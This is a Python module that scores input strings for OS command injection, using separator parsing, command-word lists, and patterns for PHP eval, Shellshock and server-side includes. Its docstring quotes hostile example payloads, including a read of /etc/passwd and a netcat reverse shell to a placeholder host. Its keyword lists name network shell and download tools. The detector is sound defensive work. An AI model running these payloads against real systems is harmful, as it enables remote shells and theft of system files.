"""OS command injection: a shell separator or substitution followed by a command.

An application that passes a value to ``system()``, ``popen()`` or a shell script lets the
value end the intended command (``;``, ``|``, ``&``, ``||``, ``&&``, a newline) or run one
inside it (`` `cmd` ``, ``$(cmd)``). What follows must then be a command with arguments a
shell would take: ``; cat /etc/passwd``, ``| nc -e /bin/sh host 4444``, ``&& ping -n 30 ...``.
"Rock & roll", "salt; pepper" and "cats | dogs" have separators but no command after them;
"grep tutorial" has a command but no separator. Code-evaluation sinks of the same family
(``<?php``, ``system('...')``, Shellshock's ``() { :;};``) are scored here too.

References: OWASP WSTG-INPV-12 *Testing for Command Injection*, CWE-78 *OS Command
Injection*, CWE-95 *Eval Injection*, CVE-2014-6271 (Shellshock).

Trust assumption: the value is attacker-controlled. Segments between separators are disjoint,
so the work is linear; every pattern is free of nested quantifiers.
"""

from __future__ import annotations

import re

__all__ = ["COMMAND_WORDS", "INTERPRETERS", "PHP_FUNCTIONS", "score_cmdi"]

_SEPARATOR = re.compile(r"\|\||&&|[;&|\n\r]|\$\(|`")
# Commands an attacker runs to prove or use the injection. Unix names are matched as typed
# (shells are case-sensitive); the Windows ones in either case.
_RECON = frozenset(
    {"id", "whoami", "uname", "ifconfig", "netstat", "pwd", "ls", "env", "printenv", "hostname"}
    | {"ps", "lsb_release", "sysinfo"}
)
_ACTION = frozenset(
    {"cat", "tac", "head", "tail", "more", "less", "echo", "printf", "rm", "chmod", "chown"}
    | {"curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "tftp", "ftp", "ssh", "scp"}
    | {"ping", "sleep", "nslookup", "dig", "host", "traceroute", "bash", "sh", "zsh", "dash"}
    | {"ksh", "csh", "tcsh", "perl", "python", "python2", "python3", "php", "ruby", "node"}
    | {"lua", "base64", "xxd", "touch", "mkfifo", "kill", "killall", "find", "grep", "awk"}
    | {"sed", "timeout", "nohup", "crontab", "useradd", "passwd", "sudo", "su", "mail", "xterm"}
    | {"cp", "mv", "dd", "tar", "gzip", "eval", "exec", "exit", "getent", "cut", "od", "strings"}
)
_WINDOWS = frozenset(
    {"dir", "type", "ipconfig", "net", "netsh", "reg", "systeminfo", "tasklist", "taskkill"}
    | {"ver", "cmd", "cmd.exe", "powershell", "powershell.exe", "pwsh", "certutil", "bitsadmin"}
    | {"wmic", "mshta", "rundll32", "regsvr32", "whoami", "nslookup", "ping", "tracert", "copy"}
    | {"del", "start", "set", "findstr", "schtasks", "sc", "query", "route", "arp"}
)
#: Every command name the segments after a separator are matched against.
COMMAND_WORDS = _RECON | _ACTION | _WINDOWS
_WORD = re.compile(r"[\"'\s({]*([^\s\"'<>(){}]+)")
_STRONG_ARG = re.compile(
    r"(?:^|\s)(?:-{1,2}\w|/[\w.]|[A-Za-z]:\\|~/|\\\\)|https?://|[<>]|\$\{?IFS|(?<!\d)\d{1,3}\.\d{1,3}\.\d|^\s*\d"
)
_SHELL_PATH = re.compile(r"/(?:usr/)?s?bin/(?:ba|z|k|c|tc|da)?sh\b|\bcmd(?:\.exe)?\s+/c\b", re.I)
#: Interpreters that run code given on their command line (``bash -c``, ``nc -e``).
INTERPRETERS = frozenset(
    {"nc", "ncat", "netcat", "bash", "sh", "perl", "python", "python2", "python3", "php"}
    | {"ruby", "powershell", "pwsh", "socat"}
)
_INTERPRETER = re.compile(
    r"^\s*(?:" + "|".join(sorted(INTERPRETERS, key=lambda w: (-len(w), w))) + ")"
    r"(?:\.exe)?\s+(?:-\w+\s+)*-(?:e|c|i|r|enc|encodedcommand|command)\b",
    re.I,
)
_SHELLSHOCK = re.compile(r"\(\s*\)\s*\{[^}]{0,64}\}\s*;")
#: PHP functions that run commands or code, when called with a string or a variable.
PHP_FUNCTIONS = frozenset(
    {"system", "exec", "passthru", "shell_exec", "popen", "proc_open", "pcntl_exec", "assert"}
    | {"eval", "phpinfo"}
)
_PHP = re.compile(
    r"<\?(?:php|=)|\{\$\{|\$\{@|\$_(?:get|post|request|cookie|server|files|env)\b"
    r"|\b(?:" + "|".join(sorted(PHP_FUNCTIONS, key=lambda w: (-len(w), w))) + ")"
    r"\s*\(\s*(?:['\"$`)]|\$_)"
)
# Cheap substrings one of which _PHP needs; derived from PHP_FUNCTIONS so that a function added
# there is searched for (phpinfo was once left out here, and "';phpinfo();//" passed).
_PHP_HINTS = ("<?", "${", "{$", "$_", *sorted(PHP_FUNCTIONS))
_IFS = re.compile(r"\$\{?IFS\b")
# Server-side includes run commands where pages are parsed for them (CWE-97).
_SSI = re.compile(r"<!--\s*#\s*(?:exec|include|echo|config|printenv|fsize|flastmod)\b", re.I)
_NAME = re.compile(r"[\w.+-]+")
# Windows commands that do nothing harmful without a subcommand; with one they administer.
_SUBCOMMANDS = {
    "net": frozenset(
        {"user", "localgroup", "view", "use", "share", "group", "accounts", "session"}
    ),
    "netsh": frozenset({"firewall", "advfirewall", "interface", "wlan", "winsock"}),
    "reg": frozenset({"add", "query", "delete", "save", "export", "import"}),
    "sc": frozenset({"create", "config", "start", "stop", "query"}),
}


def _command(segment: str) -> tuple[str, str] | None:
    """The command word a segment starts with (path stripped) and the rest, or None."""
    m = _WORD.match(segment)
    if m is None:
        return None
    # "/usr/bin/id" and "C:\\Windows\\System32\\cmd.exe" name the same commands as "id", "cmd.exe".
    word = m.group(1)
    if word.startswith(("/", "\\")) or word[1:3] in (":\\", ":/"):
        word = word.rpartition("/")[2].rpartition("\\")[2]
    name = _NAME.match(word)  # "id\\n" (a literal escape some handlers decode) is "id"
    return (name.group() if name else word), segment[m.end() :]


def _segment_score(segment: str, after: str) -> int:
    found = _command(segment)
    if found is None:
        return 0
    word, rest = found
    lowered = word.lower()
    known_unix = word in _RECON or word in _ACTION
    known = known_unix or lowered in _WINDOWS
    if not known:
        return 0
    args = rest.strip()
    # The separator decides how much a bare command proves: after a backtick or $( it is
    # executed by construction; after ";" or "|" it needs arguments a shell would take.
    if after in ("`", "$("):
        return 85
    if not args or args[0] in ";|&`)'\"":
        return 85 if (word in _RECON or lowered in _WINDOWS) else 60
    if _STRONG_ARG.search(args):
        return 85
    subcommands = _SUBCOMMANDS.get(lowered)
    if subcommands and args.split(None, 1)[0].lower() in subcommands:
        return 85
    return 40


def score_cmdi(value: str) -> int:
    """How sure we are (0-100) that ``value`` injects a shell command."""
    best = 0
    if "{" in value and _SHELLSHOCK.search(value):
        return 95
    low = value.lower()
    if any(hint in low for hint in _PHP_HINTS) and _PHP.search(low):
        best = 85
    if "<!--" in value and _SSI.search(value):
        best = 85
    if ("bin/" in low or "cmd" in low) and _SHELL_PATH.search(value):
        best = max(best, 80)
    if _INTERPRETER.match(value):
        best = max(best, 85)
    if "IFS" in value and _IFS.search(value):
        best = max(best, 80)
    if best >= 85:
        return best
    previous = ""
    for m in _SEPARATOR.finditer(value):
        sep = m.group()
        if sep == "`" and previous == "`":
            previous = ""  # the closing backtick of a substitution
            continue
        previous = sep
        start = m.end()
        nxt = _SEPARATOR.search(value, start)
        segment = value[start : nxt.start() if nxt else len(value)]
        score = _segment_score(segment, sep)
        if sep == "`" and score >= 85 and _in_prose(value, m.start()):
            score = 45  # Markdown's inline code: "run `ls -la` to list"
        best = max(best, score)
        if best >= 85:
            return best
    return best


def _in_prose(value: str, i: int) -> bool:
    # A backtick inside running text (a word, then a space, then the backtick) is Markdown; a
    # substitution follows a separator, a quote, "=", or starts the value.
    before = value[max(0, i - 2) : i]
    return len(before) == 2 and before[1] == " " and before[0].isalnum()
